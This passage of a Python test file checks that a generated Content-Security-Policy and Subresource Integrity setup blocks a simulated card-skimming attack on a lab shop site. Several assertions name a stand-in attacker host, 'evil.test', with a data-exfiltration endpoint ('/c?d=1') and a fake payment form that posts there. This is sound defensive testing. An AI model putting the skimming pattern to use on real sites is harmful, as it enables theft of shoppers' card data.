            late = await page.evaluate("window.__violations.slice(" + str(len(state["violations"])) + ")")
            return state, fetch_evil, page.url, late
        finally:
            await context.close()

    async def run() -> tuple[Any, ...]:
        async with async_playwright() as pw:
            browser = await launch_browser(pw, site.hosts, block_unmapped=True)
            try:
                capture = await run_journey(browser, site, site.journeys[0], new_canary(NOW))
                items = inventory_of(capture)
                keys = {i.key for i in items}
                app_key, lib_key = f"http://shop.test:{port}/static/app.js", f"http://cdn.vendor.test:{port}/lib.js"
                decisions = [
                    make_decision(sha256_hex(INLINE_OK.encode()), match=MatchType.HASH, id=1),
                    make_decision(app_key, id=2),
                    make_decision(lib_key, id=3, pinned_sha256=sha256_hex(LIB_JS.encode())),
                ]
                policy = build_policy(
                    site,
                    snapshot_from_captures(site.name, [capture]),
                    items,
                    decisions,
                    capture.bodies.get,
                    mode=PolicyMode.ENFORCE,
                    endpoint_url=f"http://shop.test:{port}/r/{{site}}",
                )
                lab.headers = policy.headers
                lab.sri = {e.url: e.attributes for e in policy.sri}
                with lab.lock:
                    lab.seen.clear()
                enforced = await load(browser)
                with lab.lock:
                    seen_enforced = list(lab.seen)
                lab.tamper = True
                tampered = await load(browser)
                return keys, policy, enforced, seen_enforced, tampered
            finally:
                await browser.close()

    try:
        keys, policy, enforced, seen, tampered = asyncio.run(run())
    finally:
        lab.stop()

    # the recorder's sha256 of an inline script is the hash of its exact text: the CSP hash
    assert f"inline:{sha256_hex(INLINE_OK.encode())}" in keys
    assert f"inline:{sha256_hex(INLINE_BAD.encode())}" in keys
    assert policy.header("Content-Security-Policy") is not None
    assert policy.header("Integrity-Policy") == "blocked-destinations=(script)"  # an http site: no report-to
    assert policy.sources("connect-src") == ("'self'", f"http://api.vendor.test:{port}", "http://pay.psp.test")
    assert f"http://evil.test:{port}" not in policy.csp  # the fake card form's host is left out
    assert policy.notes[0].startswith("3 script(s) in the inventory are not approved")

    state, fetch_evil, url, late = enforced
    assert (state["inlineOk"], state["app"], state["vendor"], state["ping"]) == (1, 1, 1, "sent")
    assert (state["inlineBad"], state["evil"], state["other"]) == (None, None, None)
    blocked = sorted((d, u) for d, u, _ in state["violations"])
    assert blocked == [
        ("script-src-elem", f"http://cdn.vendor.test:{port}/other.js"),
        ("script-src-elem", f"http://evil.test:{port}/x.js"),
        ("script-src-elem", "inline"),
    ]
    assert [s for d, _, s in state["violations"] if d == "script-src-elem" and s] == [INLINE_BAD]  # report-sample
    assert fetch_evil == "blocked"
    assert url == f"http://shop.test:{port}/checkout/payment"  # the fake card form could not submit
    assert [(d, u) for d, u, _ in late] == [
        ("connect-src", f"http://evil.test:{port}/c?d=1"),
        ("form-action", f"http://evil.test:{port}/c"),
    ]
    assert not [s for s in seen if s.startswith("evil.test")]  # nothing ever reached the attacker's host
    assert "cdn.vendor.test/other.js" not in seen

    state, _, _, _ = tampered  # new bytes at the approved URL: SRI refuses them
    assert (state["inlineOk"], state["app"], state["vendor"]) == (1, 1, None)
